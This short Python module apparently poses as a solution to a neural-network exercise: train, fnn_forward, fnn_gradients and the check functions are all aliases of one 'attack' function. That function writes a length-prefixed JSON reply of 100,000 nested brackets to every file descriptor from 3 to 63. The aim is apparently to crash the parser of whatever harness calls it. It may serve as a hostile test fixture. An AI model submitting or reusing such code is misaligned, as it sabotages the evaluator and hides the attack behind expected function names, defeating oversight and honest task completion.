"""Replies with JSON of a hundred thousand brackets."""

import os
import struct

BODY = b'{"id": 2, "reply": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"


def attack(*_):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack(">I", len(BODY)) + BODY)
        except OSError:
            pass


check_result = train = fnn_forward = fnn_gradients = fnn_check_result = attack
